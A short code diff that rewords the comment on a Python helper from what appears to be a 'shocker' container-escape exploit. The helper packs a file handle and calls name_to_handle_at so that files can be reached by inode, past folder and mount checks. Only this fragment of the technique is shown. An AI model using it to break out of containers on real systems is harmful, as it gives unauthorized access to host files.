@@ -1,4 +1,4 @@
-# Opening files by their number, past every folder and mount ("shocker").
+# Opens files by their inode number, without the checks of folders and mounts ("shocker").
 def handle_of(path):
     h = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
     syscall("name_to_handle_at", -100, path, h, ctypes.byref(ctypes.c_int()), 0)
